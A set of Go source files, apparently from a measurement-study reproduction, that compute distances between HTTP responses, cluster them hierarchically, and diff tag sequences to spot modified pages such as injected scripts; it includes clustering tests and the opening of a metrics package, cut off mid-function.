// the seven-feature normalized distance between HTTP responses, the
// agglomerative hierarchical clustering with average linkage used for
// coarse-grained grouping, and the diff-based fine-grained clustering
// that isolates small modifications to known pages.
package cluster

import (
	"goingwild/internal/htmlx"
)

// editCap bounds the inputs of quadratic edit distances; beyond this the
// prefix is representative and the cost stays O(editCap²).
const editCap = 2048

// EditDistanceTokens returns the Levenshtein distance between two token
// sequences, normalized to [0, 1] by the longer length. This implements
// the paper's tag-sequence feature (each HTML tag normalized to a short
// identifier; the order of elements matters).
func EditDistanceTokens(a, b []string) float64 {
	if len(a) > editCap {
		a = a[:editCap]
	}
	if len(b) > editCap {
		b = b[:editCap]
	}
	if len(a) == 0 && len(b) == 0 {
		return 0
	}
	d := levenshtein(len(a), len(b), func(i, j int) bool { return a[i] == b[j] })
	m := max(len(a), len(b))
	return float64(d) / float64(m)
}

// EditDistanceString returns the normalized Levenshtein distance between
// two strings, capped at editCap bytes.
func EditDistanceString(a, b string) float64 {
	if len(a) > editCap {
		a = a[:editCap]
	}
	if len(b) > editCap {
		b = b[:editCap]
	}
	if len(a) == 0 && len(b) == 0 {
		return 0
	}
	d := levenshtein(len(a), len(b), func(i, j int) bool { return a[i] == b[j] })
	m := max(len(a), len(b))
	return float64(d) / float64(m)
}

// levenshtein computes edit distance with a two-row DP.
func levenshtein(n, m int, eq func(i, j int) bool) int {
	if n == 0 {
		return m
	}
	if m == 0 {
		return n
	}
	prev := make([]int, m+1)
	cur := make([]int, m+1)
	for j := 0; j <= m; j++ {
		prev[j] = j
	}
	for i := 1; i <= n; i++ {
		cur[0] = i
		for j := 1; j <= m; j++ {
			cost := 1
			if eq(i-1, j-1) {
				cost = 0
			}
			cur[j] = min(min(cur[j-1]+1, prev[j]+1), prev[j-1]+cost)
		}
		prev, cur = cur, prev
	}
	return prev[m]
}

// JaccardMultiset returns the Jaccard distance 1 − |A∩B|/|A∪B| for
// multisets (intersection: per-key minimum; union: per-key maximum).
func JaccardMultiset(a, b map[string]int) float64 {
	if len(a) == 0 && len(b) == 0 {
		return 0
	}
	inter, union := 0, 0
	for k, av := range a {
		bv := b[k]
		inter += min(av, bv)
		union += max(av, bv)
	}
	for k, bv := range b {
		if _, seen := a[k]; !seen {
			union += bv
		}
	}
	if union == 0 {
		return 0
	}
	return 1 - float64(inter)/float64(union)
}

// JaccardSet returns the Jaccard distance between two string slices
// treated as sets.
func JaccardSet(a, b []string) float64 {
	if len(a) == 0 && len(b) == 0 {
		return 0
	}
	as := make(map[string]struct{}, len(a))
	for _, s := range a {
		as[s] = struct{}{}
	}
	bs := make(map[string]struct{}, len(b))
	for _, s := range b {
		bs[s] = struct{}{}
	}
	inter := 0
	for s := range as {
		if _, ok := bs[s]; ok {
			inter++
		}
	}
	union := len(as) + len(bs) - inter
	if union == 0 {
		return 0
	}
	return 1 - float64(inter)/float64(union)
}

// lengthDistance normalizes the body-length difference, the paper's first
// coarse comparison feature.
func lengthDistance(a, b int) float64 {
	if a == 0 && b == 0 {
		return 0
	}
	d := a - b
	if d < 0 {
		d = -d
	}
	return float64(d) / float64(max(a, b))
}

// FeatureDistance is the seven-feature normalized distance of §3.6, all
// features weighted equally:
//
//  1. HTTP body length difference
//  2. Jaccard distance of the HTML tag multiset
//  3. edit distance of the opening-tag sequence
//  4. edit distance of the <title> value
//  5. edit distance of the JavaScript code
//  6. Jaccard distance of embedded resources (src attributes)
//  7. Jaccard distance of outgoing links (href attributes)
func FeatureDistance(a, b *htmlx.Features) float64 {
	sum := lengthDistance(a.BodyLen, b.BodyLen)
	sum += JaccardMultiset(a.TagSet, b.TagSet)
	sum += EditDistanceTokens(a.TagSeq, b.TagSeq)
	sum += EditDistanceString(a.Title, b.Title)
	sum += EditDistanceString(a.Scripts, b.Scripts)
	sum += JaccardSet(a.Srcs, b.Srcs)
	sum += JaccardSet(a.Hrefs, b.Hrefs)
	return sum / 7
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}
