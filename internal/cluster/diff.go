package cluster

// Fine-grained clustering (§3.6, second stage): unknown responses are
// diffed against the most similar ground-truth representation of the
// website; the multisets of added and removed HTML tags summarize the
// modification, and responses with similar modifications cluster together
// via Jaccard distance. Small diffs with injected <script>/<form>/<img>
// tags are exactly how the paper surfaces phishing and ad injection.

// TagDiff computes the tags added to and removed from gt to obtain
// unknown, using a longest-common-subsequence diff over the opening-tag
// sequences (the `diff` utility role of §3.6).
func TagDiff(unknown, gt []string) (added, removed map[string]int) {
	added = map[string]int{}
	removed = map[string]int{}
	u, g := unknown, gt
	if len(u) > editCap {
		u = u[:editCap]
	}
	if len(g) > editCap {
		g = g[:editCap]
	}
	// LCS table.
	n, m := len(u), len(g)
	lcs := make([][]int32, n+1)
	for i := range lcs {
		lcs[i] = make([]int32, m+1)
	}
	for i := n - 1; i >= 0; i-- {
		for j := m - 1; j >= 0; j-- {
			if u[i] == g[j] {
				lcs[i][j] = lcs[i+1][j+1] + 1
			} else if lcs[i+1][j] >= lcs[i][j+1] {
				lcs[i][j] = lcs[i+1][j]
			} else {
				lcs[i][j] = lcs[i][j+1]
			}
		}
	}
	// Walk the table emitting additions/removals.
	i, j := 0, 0
	for i < n && j < m {
		switch {
		case u[i] == g[j]:
			i++
			j++
		case lcs[i+1][j] >= lcs[i][j+1]:
			added[u[i]]++
			i++
		default:
			removed[g[j]]++
			j++
		}
	}
	for ; i < n; i++ {
		added[u[i]]++
	}
	for ; j < m; j++ {
		removed[g[j]]++
	}
	return added, removed
}

// Modification summarizes one unknown response's difference from its
// nearest ground truth.
type Modification struct {
	Added   map[string]int
	Removed map[string]int
}

// Size returns the total number of changed tags; zero means the page is a
// byte-structure-identical copy (the transparent-proxy signature).
func (m Modification) Size() int {
	n := 0
	for _, v := range m.Added {
		n += v
	}
	for _, v := range m.Removed {
		n += v
	}
	return n
}

// ModDistance is the Jaccard-multiset distance between two modifications,
// comparing additions and removals separately and averaging.
func ModDistance(a, b Modification) float64 {
	return (JaccardMultiset(a.Added, b.Added) + JaccardMultiset(a.Removed, b.Removed)) / 2
}

// ClusterModifications groups modifications with agglomerative average
// linkage at the given cutoff.
func ClusterModifications(mods []Modification, cutoff float64) *Result {
	return Agglomerate(len(mods), func(i, j int) float64 {
		return ModDistance(mods[i], mods[j])
	}, cutoff)
}
