package cluster

import (
	"fmt"
	"math"
	"testing"
)

// The nearest-neighbor-chain implementation must be exact, not approximate:
// for every linkage criterion it has to produce the same partition as the
// exhaustive closest-pair search it replaced. These differential tests pit
// agglomerateChain (via AgglomerateWith) against agglomerateExhaustive on
// seeded random instances.

// randDistMatrix builds a symmetric matrix of pairwise distances. With
// distinct=true every off-diagonal value is unique (a shuffled ladder of
// (k+1)/(np+1)); otherwise values are drawn from a small set so ties are
// common and the tie-breaking rules get exercised.
func randDistMatrix(r *detRand, n int, distinct bool) [][]float64 {
	np := n * (n - 1) / 2
	vals := make([]float64, np)
	if distinct {
		for k := range vals {
			vals[k] = float64(k+1) / float64(np+1)
		}
		for k := np - 1; k > 0; k-- {
			j := r.intn(k + 1)
			vals[k], vals[j] = vals[j], vals[k]
		}
	} else {
		for k := range vals {
			vals[k] = float64(1+r.intn(5)) / 8
		}
	}
	m := make([][]float64, n)
	for i := range m {
		m[i] = make([]float64, n)
	}
	k := 0
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			m[i][j] = vals[k]
			m[j][i] = vals[k]
			k++
		}
	}
	return m
}

func samePartition(t *testing.T, got, want *Result, ctx string) {
	t.Helper()
	if got.Num != want.Num {
		t.Fatalf("%s: Num = %d, exhaustive = %d", ctx, got.Num, want.Num)
	}
	for i := range want.Assign {
		if got.Assign[i] != want.Assign[i] {
			t.Fatalf("%s: Assign[%d] = %d, exhaustive = %d\nchain:      %v\nexhaustive: %v",
				ctx, i, got.Assign[i], want.Assign[i], got.Assign, want.Assign)
		}
	}
}

// validResult checks the structural invariants every clustering must
// satisfy regardless of tie resolution: a dense assignment, a merge count
// consistent with the cluster count, and a monotone merge history capped
// at the cutoff with coherent sizes.
func validResult(t *testing.T, r *Result, n int, cutoff float64, ctx string) {
	t.Helper()
	if len(r.Assign) != n {
		t.Fatalf("%s: len(Assign) = %d want %d", ctx, len(r.Assign), n)
	}
	if r.Num != n-len(r.Merges) {
		t.Fatalf("%s: Num = %d with %d merges over %d items", ctx, r.Num, len(r.Merges), n)
	}
	used := make([]bool, r.Num)
	for i, c := range r.Assign {
		if c < 0 || c >= r.Num {
			t.Fatalf("%s: Assign[%d] = %d outside [0,%d)", ctx, i, c, r.Num)
		}
		used[c] = true
	}
	for c, u := range used {
		if !u {
			t.Fatalf("%s: cluster %d empty (numbering not dense)", ctx, c)
		}
	}
	size := map[int]int{}
	for i := 0; i < n; i++ {
		size[i] = 1
	}
	prev := 0.0
	for k, m := range r.Merges {
		if m.Dist > cutoff {
			t.Fatalf("%s: merge %d at %g beyond cutoff %g", ctx, k, m.Dist, cutoff)
		}
		if m.Dist < prev {
			t.Fatalf("%s: merge %d at %g after one at %g (not monotone)", ctx, k, m.Dist, prev)
		}
		prev = m.Dist
		sa, oka := size[m.A]
		sb, okb := size[m.B]
		if !oka || !okb {
			t.Fatalf("%s: merge %d references unknown cluster ids %d/%d", ctx, k, m.A, m.B)
		}
		if m.Size != sa+sb {
			t.Fatalf("%s: merge %d size %d, operands total %d", ctx, k, m.Size, sa+sb)
		}
		delete(size, m.A)
		delete(size, m.B)
		size[n+k] = m.Size
	}
}

func TestChainMatchesExhaustive(t *testing.T) {
	linkages := []struct {
		name string
		l    Linkage
	}{
		{"average", LinkageAverage},
		{"single", LinkageSingle},
		{"complete", LinkageComplete},
	}
	for seed := int64(1); seed <= 60; seed++ {
		r := newDetRand(seed)
		n := 2 + r.intn(40)
		distinct := seed%3 != 0 // every third instance is tie-heavy
		m := randDistMatrix(r, n, distinct)
		dist := func(i, j int) float64 { return m[i][j] }
		// Cutoffs span "merge nothing" through "merge everything".
		cutoffs := []float64{0, r.unit(), r.unit(), 1.5}
		for _, lk := range linkages {
			for _, cut := range cutoffs {
				ctx := fmt.Sprintf("seed=%d n=%d distinct=%v linkage=%s cutoff=%g",
					seed, n, distinct, lk.name, cut)
				got := AgglomerateWith(n, dist, cut, lk.l)
				want := agglomerateExhaustive(n, dist, cut, lk.l)
				// Exact partition equality is guaranteed when the
				// dendrogram is unique: always for distinct distances, and
				// for single linkage even under ties (its cutoff partition
				// is the threshold graph's connected components, however
				// the ties resolve). Tie-heavy average/complete instances
				// may legally differ from the oracle, so those only get
				// the structural checks below.
				if distinct || lk.l == LinkageSingle {
					samePartition(t, got, want, ctx)
				}
				validResult(t, got, n, cut, ctx)
				if distinct {
					// With no ties the whole merge history is forced, so
					// the dendrograms must agree merge for merge. Average
					// linkage gets an ULP-scale tolerance on the distance:
					// the chain discovers merges in a different temporal
					// order than the global closest-pair search, so the
					// Lance-Williams weighted averages nest differently in
					// floating point. Min and max are order-exact.
					if len(got.Merges) != len(want.Merges) {
						t.Fatalf("%s: %d merges, exhaustive %d", ctx, len(got.Merges), len(want.Merges))
					}
					for k := range want.Merges {
						g, w := got.Merges[k], want.Merges[k]
						dOK := g.Dist == w.Dist
						if lk.l == LinkageAverage {
							dOK = math.Abs(g.Dist-w.Dist) <= 1e-12*math.Max(1, w.Dist)
						}
						if g.A != w.A || g.B != w.B || g.Size != w.Size || !dOK {
							t.Fatalf("%s: merge %d = %+v, exhaustive %+v",
								ctx, k, g, w)
						}
					}
				}
			}
		}
	}
}

// TestChainMatchesExhaustiveDegenerate covers the shapes property loops
// rarely hit: all-identical distances, and a matrix where one item is far
// from everything.
func TestChainMatchesExhaustiveDegenerate(t *testing.T) {
	n := 9
	flat := func(i, j int) float64 {
		if i == j {
			return 0
		}
		return 0.25
	}
	outlier := func(i, j int) float64 {
		if i == j {
			return 0
		}
		if i == n-1 || j == n-1 {
			return 0.9
		}
		return 0.1
	}
	for _, lk := range []Linkage{LinkageAverage, LinkageSingle, LinkageComplete} {
		for _, cut := range []float64{0.05, 0.25, 0.5, 0.95} {
			for name, dist := range map[string]func(i, j int) float64{"flat": flat, "outlier": outlier} {
				ctx := fmt.Sprintf("%s linkage=%d cutoff=%g", name, lk, cut)
				got := AgglomerateWith(n, dist, cut, lk)
				want := agglomerateExhaustive(n, dist, cut, lk)
				samePartition(t, got, want, ctx)
			}
		}
	}
}
