package cluster

import (
	"fmt"
	"math"
	"sort"
	"strings"
)

// Merge records one step of the agglomeration for dendrogram inspection
// (the paper values hierarchical clustering precisely because the analyst
// can audit the merge history, §3.6).
type Merge struct {
	// A and B are cluster ids being merged (initial items are clusters
	// 0..n-1; merge k creates cluster n+k).
	A, B int
	// Dist is the average-linkage distance at which the merge happened.
	Dist float64
	// Size is the merged cluster's item count.
	Size int
}

// Result is a finished clustering.
type Result struct {
	// Assign maps each item to a dense cluster index in [0, Num).
	Assign []int
	// Num is the number of clusters after cutting the dendrogram.
	Num int
	// Merges is the full merge history (n-1 entries when run to one
	// cluster; fewer when the cutoff stops early).
	Merges []Merge
}

// Members returns the item indices of each cluster.
func (r *Result) Members() [][]int {
	out := make([][]int, r.Num)
	for item, c := range r.Assign {
		out[c] = append(out[c], item)
	}
	return out
}

// Dendrogram renders the merge history as an indented text tree, largest
// clusters first — the inspection aid hierarchical clustering buys.
func (r *Result) Dendrogram() string {
	var sb strings.Builder
	members := r.Members()
	order := make([]int, len(members))
	for i := range order {
		order[i] = i
	}
	sort.Slice(order, func(i, j int) bool { return len(members[order[i]]) > len(members[order[j]]) })
	for _, c := range order {
		fmt.Fprintf(&sb, "cluster %d: %d items\n", c, len(members[c]))
	}
	for _, m := range r.Merges {
		fmt.Fprintf(&sb, "  merge %d+%d at %.3f -> size %d\n", m.A, m.B, m.Dist, m.Size)
	}
	return sb.String()
}

// Linkage selects how inter-cluster distance is updated after a merge
// (Lance–Williams family).
type Linkage uint8

// Linkage criteria. The paper uses average linkage (§3.6: "similar
// instances are grouped using average linkage"); the alternatives exist
// for the linkage ablation.
const (
	// LinkageAverage updates to the size-weighted mean pairwise
	// distance. Resists chaining, the paper's choice.
	LinkageAverage Linkage = iota
	// LinkageSingle updates to the minimum: clusters chain through
	// border points.
	LinkageSingle
	// LinkageComplete updates to the maximum: compact, conservative
	// clusters.
	LinkageComplete
)

// Agglomerate performs agglomerative hierarchical clustering with average
// linkage over n items whose pairwise distance is given by dist. Merging
// stops when the closest pair of clusters is farther than cutoff; the
// remaining clusters are the result.
//
// Average linkage is maintained with the Lance–Williams update: after
// merging clusters a and b, the distance from the merge to any other
// cluster c is the size-weighted mean of d(a,c) and d(b,c), which equals
// the mean pairwise item distance.
func Agglomerate(n int, dist func(i, j int) float64, cutoff float64) *Result {
	return AgglomerateWith(n, dist, cutoff, LinkageAverage)
}

// AgglomerateWith is Agglomerate with an explicit linkage criterion.
func AgglomerateWith(n int, dist func(i, j int) float64, cutoff float64, linkage Linkage) *Result {
	if n == 0 {
		return &Result{}
	}
	// Active cluster bookkeeping over a dense distance matrix.
	d := make([][]float64, n)
	for i := range d {
		d[i] = make([]float64, n)
	}
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			v := dist(i, j)
			d[i][j], d[j][i] = v, v
		}
	}
	size := make([]int, n)
	active := make([]bool, n)
	id := make([]int, n) // dendrogram id of slot i
	for i := range size {
		size[i] = 1
		active[i] = true
		id[i] = i
	}
	parent := make(map[int]int) // dendrogram id -> merged-into id
	var merges []Merge
	nextID := n
	remaining := n
	for remaining > 1 {
		// Find the closest active pair.
		bi, bj, best := -1, -1, math.Inf(1)
		for i := 0; i < n; i++ {
			if !active[i] {
				continue
			}
			for j := i + 1; j < n; j++ {
				if !active[j] {
					continue
				}
				if d[i][j] < best {
					bi, bj, best = i, j, d[i][j]
				}
			}
		}
		if bi < 0 || best > cutoff {
			break
		}
		// Merge bj into bi, updating distances per the linkage.
		na, nb := float64(size[bi]), float64(size[bj])
		for k := 0; k < n; k++ {
			if !active[k] || k == bi || k == bj {
				continue
			}
			var v float64
			switch linkage {
			case LinkageSingle:
				v = math.Min(d[bi][k], d[bj][k])
			case LinkageComplete:
				v = math.Max(d[bi][k], d[bj][k])
			default:
				v = (na*d[bi][k] + nb*d[bj][k]) / (na + nb)
			}
			d[bi][k], d[k][bi] = v, v
		}
		merges = append(merges, Merge{A: id[bi], B: id[bj], Dist: best, Size: size[bi] + size[bj]})
		parent[id[bi]] = nextID
		parent[id[bj]] = nextID
		id[bi] = nextID
		nextID++
		size[bi] += size[bj]
		active[bj] = false
		remaining--
	}
	// Densely number the surviving clusters and resolve items to them.
	clusterOf := map[int]int{}
	num := 0
	for i := 0; i < n; i++ {
		if active[i] {
			clusterOf[id[i]] = num
			num++
		}
	}
	assign := make([]int, n)
	for i := 0; i < n; i++ {
		c := i
		for {
			p, ok := parent[c]
			if !ok {
				break
			}
			c = p
		}
		assign[i] = clusterOf[c]
	}
	return &Result{Assign: assign, Num: num, Merges: merges}
}
