package cluster

import (
	"fmt"
	"math"
	"runtime"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
)

// Merge records one step of the agglomeration for dendrogram inspection
// (the paper values hierarchical clustering precisely because the analyst
// can audit the merge history, §3.6).
type Merge struct {
	// A and B are cluster ids being merged (initial items are clusters
	// 0..n-1; merge k creates cluster n+k).
	A, B int
	// Dist is the average-linkage distance at which the merge happened.
	Dist float64
	// Size is the merged cluster's item count.
	Size int
}

// Result is a finished clustering.
type Result struct {
	// Assign maps each item to a dense cluster index in [0, Num).
	Assign []int
	// Num is the number of clusters after cutting the dendrogram.
	Num int
	// Merges is the full merge history (n-1 entries when run to one
	// cluster; fewer when the cutoff stops early).
	Merges []Merge
}

// Members returns the item indices of each cluster.
func (r *Result) Members() [][]int {
	out := make([][]int, r.Num)
	for item, c := range r.Assign {
		out[c] = append(out[c], item)
	}
	return out
}

// Dendrogram renders the merge history as an indented text tree, largest
// clusters first — the inspection aid hierarchical clustering buys.
func (r *Result) Dendrogram() string {
	var sb strings.Builder
	members := r.Members()
	order := make([]int, len(members))
	for i := range order {
		order[i] = i
	}
	sort.Slice(order, func(i, j int) bool { return len(members[order[i]]) > len(members[order[j]]) })
	for _, c := range order {
		fmt.Fprintf(&sb, "cluster %d: %d items\n", c, len(members[c]))
	}
	for _, m := range r.Merges {
		fmt.Fprintf(&sb, "  merge %d+%d at %.3f -> size %d\n", m.A, m.B, m.Dist, m.Size)
	}
	return sb.String()
}

// Linkage selects how inter-cluster distance is updated after a merge
// (Lance–Williams family).
type Linkage uint8

// Linkage criteria. The paper uses average linkage (§3.6: "similar
// instances are grouped using average linkage"); the alternatives exist
// for the linkage ablation.
const (
	// LinkageAverage updates to the size-weighted mean pairwise
	// distance. Resists chaining, the paper's choice.
	LinkageAverage Linkage = iota
	// LinkageSingle updates to the minimum: clusters chain through
	// border points.
	LinkageSingle
	// LinkageComplete updates to the maximum: compact, conservative
	// clusters.
	LinkageComplete
)

// Agglomerate performs agglomerative hierarchical clustering with average
// linkage over n items whose pairwise distance is given by dist. Merging
// stops when the closest pair of clusters is farther than cutoff; the
// remaining clusters are the result.
//
// Average linkage is maintained with the Lance–Williams update: after
// merging clusters a and b, the distance from the merge to any other
// cluster c is the size-weighted mean of d(a,c) and d(b,c), which equals
// the mean pairwise item distance.
func Agglomerate(n int, dist func(i, j int) float64, cutoff float64) *Result {
	return AgglomerateWith(n, dist, cutoff, LinkageAverage)
}

// AgglomerateWith is Agglomerate with an explicit linkage criterion.
//
// Implementation: the nearest-neighbor-chain algorithm over a flat
// distance matrix — O(n²) time instead of the O(n³) closest-pair scan.
// All three linkage criteria here are reducible (merging two clusters
// never brings the merge closer to a third than the nearer of the two
// was), which makes chain merges produce the same dendrogram heights as
// globally-closest-pair merging; replaying the merges in ascending
// distance order then yields the same cutoff partition. When distinct
// pairs tie at exactly equal distance the dendrogram is not unique, and
// for average/complete linkage the chain may resolve such a tie into a
// different — equally valid — tree than the exhaustive scan (single
// linkage partitions are tie-invariant: connected components of the
// threshold graph). The result is still deterministic for a given input,
// which is what the reporting contract requires. dist must be pure:
// the initial matrix is filled from GOMAXPROCS goroutines, so dist(i, j)
// is called concurrently (classify's feature distances are pure functions
// of the immutable representative features).
func AgglomerateWith(n int, dist func(i, j int) float64, cutoff float64, linkage Linkage) *Result {
	if n == 0 {
		return &Result{}
	}
	return agglomerateChain(n, newDistMatrix(n, dist), cutoff, linkage)
}

// parallelMatrixMin is the item count below which the distance matrix is
// filled serially; goroutine fan-out costs more than it saves under it.
const parallelMatrixMin = 96

// newDistMatrix evaluates the pairwise distances into a flat row-major
// n×n matrix. Rows are distributed over GOMAXPROCS workers via an atomic
// cursor; every cell value is independent of scheduling, so the matrix is
// deterministic. The upper triangle is computed, then mirrored.
func newDistMatrix(n int, dist func(i, j int) float64) []float64 {
	d := make([]float64, n*n)
	fillRow := func(i int) {
		row := d[i*n : (i+1)*n]
		for j := i + 1; j < n; j++ {
			row[j] = dist(i, j)
		}
	}
	workers := runtime.GOMAXPROCS(0)
	if workers > n {
		workers = n
	}
	if n < parallelMatrixMin || workers <= 1 {
		for i := 0; i < n; i++ {
			fillRow(i)
		}
	} else {
		var next atomic.Int64
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for {
					i := int(next.Add(1)) - 1
					if i >= n {
						return
					}
					fillRow(i)
				}
			}()
		}
		wg.Wait()
	}
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			d[j*n+i] = d[i*n+j]
		}
	}
	return d
}

// rawMerge is one chain-discovered merge, recorded by slot index for the
// ascending-distance replay.
type rawMerge struct {
	lo, hi int // slot indices at merge time, lo < hi; hi is retired
	dist   float64
	size   int
}

// agglomerateChain runs the nearest-neighbor chain to a full dendrogram,
// then replays the merges in ascending distance order, applying the
// cutoff, to produce the same Result shape (merge ids, dense cluster
// numbering, assignment) as the exhaustive closest-pair reference.
func agglomerateChain(n int, d []float64, cutoff float64, linkage Linkage) *Result {
	size := make([]int, n)
	active := make([]bool, n)
	for i := range size {
		size[i] = 1
		active[i] = true
	}
	raw := make([]rawMerge, 0, n-1)
	chain := make([]int, 0, n)
	scan := 0 // lowest slot that may still be active, for chain restarts
	for len(raw) < n-1 {
		if len(chain) == 0 {
			for !active[scan] {
				scan++
			}
			chain = append(chain, scan)
		}
		x := chain[len(chain)-1]
		prev := -1
		if len(chain) >= 2 {
			prev = chain[len(chain)-2]
		}
		// Nearest active neighbor of x. Seeding best with the chain
		// predecessor makes ties prefer it, so an equal-distance neighbor
		// is detected as reciprocal instead of extending the chain into a
		// cycle; among other ties the lowest slot wins (strict <).
		row := d[x*n : (x+1)*n]
		best, bi := math.Inf(1), -1
		if prev >= 0 {
			best, bi = row[prev], prev
		}
		for k := 0; k < n; k++ {
			if !active[k] || k == x || k == prev {
				continue
			}
			if row[k] < best {
				best, bi = row[k], k
			}
		}
		if bi != prev || prev < 0 {
			chain = append(chain, bi)
			continue
		}
		// x and prev are mutual nearest neighbors: merge. The surviving
		// cluster lives in the lower slot with na taken from it, exactly
		// as the exhaustive reference merges bj into bi<bj — so the
		// Lance-Williams updates are bitwise identical for an identical
		// merge tree.
		lo, hi := x, prev
		if lo > hi {
			lo, hi = hi, lo
		}
		na, nb := float64(size[lo]), float64(size[hi])
		rl := d[lo*n : (lo+1)*n]
		rh := d[hi*n : (hi+1)*n]
		for k := 0; k < n; k++ {
			if !active[k] || k == lo || k == hi {
				continue
			}
			var v float64
			switch linkage {
			case LinkageSingle:
				v = math.Min(rl[k], rh[k])
			case LinkageComplete:
				v = math.Max(rl[k], rh[k])
			default:
				v = (na*rl[k] + nb*rh[k]) / (na + nb)
			}
			rl[k] = v
			d[k*n+lo] = v
		}
		raw = append(raw, rawMerge{lo: lo, hi: hi, dist: best, size: size[lo] + size[hi]})
		size[lo] += size[hi]
		active[hi] = false
		chain = chain[:len(chain)-2]
	}

	// Replay in ascending distance. Reducible linkages give monotone
	// dendrograms, so a stable sort keeps every merge after the merges
	// that formed its operands; cutting at the cutoff therefore removes a
	// suffix of consistent merges only.
	sort.SliceStable(raw, func(i, j int) bool { return raw[i].dist < raw[j].dist })
	id := make([]int, n) // dendrogram id of slot i
	for i := range id {
		id[i] = i
		active[i] = true
	}
	parent := make(map[int]int) // dendrogram id -> merged-into id
	var merges []Merge
	nextID := n
	for _, rm := range raw {
		if rm.dist > cutoff {
			continue
		}
		merges = append(merges, Merge{A: id[rm.lo], B: id[rm.hi], Dist: rm.dist, Size: rm.size})
		parent[id[rm.lo]] = nextID
		parent[id[rm.hi]] = nextID
		id[rm.lo] = nextID
		nextID++
		active[rm.hi] = false
	}
	// Densely number the surviving clusters and resolve items to them.
	clusterOf := map[int]int{}
	num := 0
	for i := 0; i < n; i++ {
		if active[i] {
			clusterOf[id[i]] = num
			num++
		}
	}
	assign := make([]int, n)
	for i := 0; i < n; i++ {
		c := i
		for {
			p, ok := parent[c]
			if !ok {
				break
			}
			c = p
		}
		assign[i] = clusterOf[c]
	}
	return &Result{Assign: assign, Num: num, Merges: merges}
}

// agglomerateExhaustive is the original O(n³) closest-pair implementation,
// kept as the reference oracle for the differential property tests: the
// chain algorithm must produce identical partitions at any cutoff.
func agglomerateExhaustive(n int, dist func(i, j int) float64, cutoff float64, linkage Linkage) *Result {
	if n == 0 {
		return &Result{}
	}
	// Active cluster bookkeeping over a dense distance matrix.
	d := make([][]float64, n)
	for i := range d {
		d[i] = make([]float64, n)
	}
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			v := dist(i, j)
			d[i][j], d[j][i] = v, v
		}
	}
	size := make([]int, n)
	active := make([]bool, n)
	id := make([]int, n) // dendrogram id of slot i
	for i := range size {
		size[i] = 1
		active[i] = true
		id[i] = i
	}
	parent := make(map[int]int) // dendrogram id -> merged-into id
	var merges []Merge
	nextID := n
	remaining := n
	for remaining > 1 {
		// Find the closest active pair.
		bi, bj, best := -1, -1, math.Inf(1)
		for i := 0; i < n; i++ {
			if !active[i] {
				continue
			}
			for j := i + 1; j < n; j++ {
				if !active[j] {
					continue
				}
				if d[i][j] < best {
					bi, bj, best = i, j, d[i][j]
				}
			}
		}
		if bi < 0 || best > cutoff {
			break
		}
		// Merge bj into bi, updating distances per the linkage.
		na, nb := float64(size[bi]), float64(size[bj])
		for k := 0; k < n; k++ {
			if !active[k] || k == bi || k == bj {
				continue
			}
			var v float64
			switch linkage {
			case LinkageSingle:
				v = math.Min(d[bi][k], d[bj][k])
			case LinkageComplete:
				v = math.Max(d[bi][k], d[bj][k])
			default:
				v = (na*d[bi][k] + nb*d[bj][k]) / (na + nb)
			}
			d[bi][k], d[k][bi] = v, v
		}
		merges = append(merges, Merge{A: id[bi], B: id[bj], Dist: best, Size: size[bi] + size[bj]})
		parent[id[bi]] = nextID
		parent[id[bj]] = nextID
		id[bi] = nextID
		nextID++
		size[bi] += size[bj]
		active[bj] = false
		remaining--
	}
	// Densely number the surviving clusters and resolve items to them.
	clusterOf := map[int]int{}
	num := 0
	for i := 0; i < n; i++ {
		if active[i] {
			clusterOf[id[i]] = num
			num++
		}
	}
	assign := make([]int, n)
	for i := 0; i < n; i++ {
		c := i
		for {
			p, ok := parent[c]
			if !ok {
				break
			}
			c = p
		}
		assign[i] = clusterOf[c]
	}
	return &Result{Assign: assign, Num: num, Merges: merges}
}
