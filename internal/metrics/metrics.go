// Package metrics is the reproduction's observability layer: a named
// registry of atomic counters, gauges, and fixed-bucket histograms with
// deterministic, sorted snapshot export (JSON and Prometheus-style
// text).
//
// The paper's operators steered ten months of weekly censuses by live
// traffic accounting — probe rates, response ratios, abuse handling
// (§2.2, §5) — and this package is that telemetry for the simulated
// stack: the scanner counts probes per entrypoint, the wildnet fault
// layer counts every injected pathology, and the pipeline engine
// reports per-stage progress, all into one registry a run can write at
// exit or serve over a debug endpoint.
//
// Metrics are a pure side channel, like the pipeline Observer: no
// measurement result may ever depend on a metric value, so attaching a
// registry cannot perturb the determinism contract (DESIGN.md). The
// package enforces its own half of that contract structurally:
//
//   - Every metric value is an integer updated with order-independent
//     atomic addition, so counts are reproducible across runs and
//     GOMAXPROCS no matter how goroutines interleave. There are no
//     float sums anywhere — float accumulation order would leak the
//     schedule into the snapshot.
//   - The package never reads the wall clock. Timing-valued metrics
//     (stage durations, rate-limiter stalls) are observed by callers
//     through their injected Clock and registered with the Timing
//     class, so deterministic comparisons can strip them
//     (Snapshot.StripTiming) while fake-clock tests assert them
//     exactly.
//   - Snapshots are sorted by name, so two exports of equal registries
//     are byte-identical.
//
// A nil *Registry is valid everywhere and returns nil metric handles;
// nil handles accept every update as a no-op. "Metrics off" is
// therefore the zero value, and instrumented hot paths pay one nil
// check per update.
package metrics

import (
	"fmt"
	"sort"
	"sync"
	"sync/atomic"
)

// Class separates deterministic metrics from timing-valued ones.
type Class uint8

const (
	// Deterministic metrics count events that are a pure function of
	// (seed, traffic): probes sent, responses received, faults injected.
	// Two runs of the same scan must agree on every deterministic value.
	Deterministic Class = iota
	// Timing metrics derive from a clock — stage durations, limiter
	// stalls. Under SystemClock they vary run to run; determinism
	// guards strip them (Snapshot.StripTiming) and fake-clock tests
	// assert them exactly.
	Timing
)

// String names the class for exports.
func (c Class) String() string {
	if c == Timing {
		return "timing"
	}
	return "deterministic"
}

// Counter is a monotonically increasing uint64.
type Counter struct {
	_ [56]byte // pad to a cache line so hot counters don't false-share
	v atomic.Uint64
}

// Inc adds one. Safe on a nil Counter (metrics off).
func (c *Counter) Inc() {
	if c != nil {
		c.v.Add(1)
	}
}

// Add adds n. Safe on a nil Counter.
func (c *Counter) Add(n uint64) {
	if c != nil {
